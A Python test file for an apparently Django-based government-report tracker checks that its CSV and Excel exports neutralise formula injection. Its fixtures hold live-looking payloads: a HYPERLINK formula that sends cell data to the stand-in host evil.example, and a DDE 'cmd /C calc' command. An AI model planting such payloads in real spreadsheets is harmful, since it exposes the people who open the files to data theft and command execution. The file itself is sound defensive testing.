"""Words that a spreadsheet would run: no table that leaves the program has a cell that is a formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from bench_people import as_person, make_item, office
from django.test import Client
from django.utils import timezone
from site_samples import Sample

from ximu.ledger.exchange.cells import FORMULA_STARTS
from ximu.track import actions

pytestmark = [pytest.mark.django_db, pytest.mark.slow]
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"x")'
COMMAND = "@SUM(1+9)*cmd|' /C calc'!A0"
LINES = (
    f"{EVIL}、{{before}}年工作回顾",
    "全市地区生产总值增长7.1%，一般公共预算收入80.5亿元，与2.3%的预期不符。",
    f"财政收入没有完成年初目标。新建临江大桥已经开工，{COMMAND}共有6处。",
    "一、{before}年工作回顾",
    "二、{year}年工作安排",
    "今年地区生产总值增长8%左右，确保城镇新增就业3.2万人以上；建成临江大桥。",
    "一个打\n断的句子，还有77个说不清的数。",
)


@pytest.fixture
def evil_ledger(db: None) -> str:
    """A ledger whose place, title and words begin like formulas; the value is the id of a report."""
    from ximu.store.relink import relink
    from ximu.store.save import save_reading

    for year in (2030, 2031):
        sample = Sample(year, "=1+1市", "990777", LINES)
        saved = save_reading(*sample.reading()).reports[0].public_id
    relink()
    return saved


def content(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def runnable(data: bytes, separator: str = ",") -> Iterator[str]:
    """Cells of a CSV that a spreadsheet would run; a plain number is none."""
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator):
        for cell in row:
            if cell.startswith((*STARTS, *FORMULA_STARTS)) and not cell.removeprefix("-").replace(".", "", 1).isdigit():
                yield cell


def test_every_csv_of_the_site(client: Client, evil_ledger: str) -> None:
    from ximu.site.pages.data import tables

    addresses = [
        f"/reports/{evil_ledger}/ledger.csv", "/places/?format=csv", "/promises/?format=csv", "/findings/?format=csv",
        "/projects/?format=csv", "/reports/?format=csv", "/indicators/gross_regional_product/?format=csv",
        *(f"/data/{name}.csv" for name in tables()),
        *(f"/api/v1/{name}?format=csv" for name in ("measures", "reports", "places", "commitments", "findings", "links")),
    ]  # fmt: skip
    guarded = 0
    for address in addresses:
        response = client.get(address)
        if response.status_code != 200 or "csv" not in response.headers["Content-Type"]:
            continue
        data = content(response)
        assert list(runnable(data)) == [], address
        guarded += b"'=" in data
    assert guarded >= 6


def test_every_csv_of_the_command() -> None:
    """What `ximu read`, `link` and `export` write comes from these writers."""
    from ximu.ledger.exchange.csv_table import CsvTable
    from ximu.ledger.exchange.kinds import KINDS

    reading, _ = Sample(2031, "=1+1市", "990777", LINES).reading()
    (found,) = reading.reports
    out = io.BytesIO()
    table = CsvTable(out, list(KINDS))
    table.write([found.report, *found.measures, *found.commitments, *found.projects, *found.findings])
    table.flush()
    data = out.getvalue()
    assert b"'=1+1" in data
    assert list(runnable(data)) == []


def formulas_in(data: bytes) -> list[str]:
    """Formulas and addresses that run, in any sheet of a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or cell.hyperlink
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        found += [name for name in packed.namelist() if "externalLink" in name or name.endswith(".bin")]
    return found


def test_every_workbook_of_the_workbench() -> None:
    of = office("here", "=1+1市")
    government, people = of
    government.units.update(name_zh=EVIL, short_zh=COMMAND)
    item = make_item(of, title=EVIL, requirement_zh=COMMAND, due_on=timezone.localdate())
    actions.act(people["inspector"], item, "assign")
    told = actions.NewProgress(period=f"{timezone.localdate():%Y-%m}", progress_zh=EVIL, problems_zh=COMMAND)
    actions.report_progress(people["reporter"], item, told)
    client = as_person(people["inspector"])
    seen = b""
    for address in ("/workbench/items/export.xlsx?playbook=key_tasks", "/workbench/standing.xlsx"):
        data = content(client.get(address))
        assert data[:4] == b"PK\x03\x04", address
        assert formulas_in(data) == [], address
        with zipfile.ZipFile(io.BytesIO(data)) as packed:
            seen += b"".join(packed.read(name) for name in packed.namelist())
    assert b"HYPERLINK" in seen  # as text


def test_a_workbook_of_readings(tmp_path: Path) -> None:
    from ximu.ledger.exchange.kinds import KINDS
    from ximu.ledger.exchange.xlsx import XlsxBook

    reading, _ = Sample(2031, "=1+1市", "990777", LINES).reading()
    (found,) = reading.reports
    target = tmp_path / "a.xlsx"
    book = XlsxBook(target, target, list(KINDS))
    book.write([found.report, *found.measures, *found.commitments, *found.projects, *found.findings])
    book.close()
    assert formulas_in(target.read_bytes()) == []


def test_what_is_written_is_read_back_as_it_was() -> None:
    from ximu.ledger.exchange.cells import guarded, unguarded

    for start in ("", *STARTS, "'", "''", "'="):
        assert unguarded(guarded(start + "x")) == start + "x"
        assert not list(runnable(json.dumps(guarded(start + "x"))[1:-1].encode())) or not start


def test_a_formula_in_a_table_that_is_brought_is_no_words() -> None:
    """A formula in an imported table is not run here either: its text is taken, and guarded again on its way out."""
    from ximu.track.editions import playbooks
    from ximu.track.exchange.read_table import read_task_table

    of = office("here", "临江市")
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["工作内容", "牵头单位"])
    sheet.append([EVIL, "市水务局"])
    out = io.BytesIO()
    book.save(out)
    table = read_task_table(out.getvalue(), of[0], playbooks()["key_tasks"], year=2031)
    assert [row.content.title_zh for row in table.rows] in ([EVIL], [])
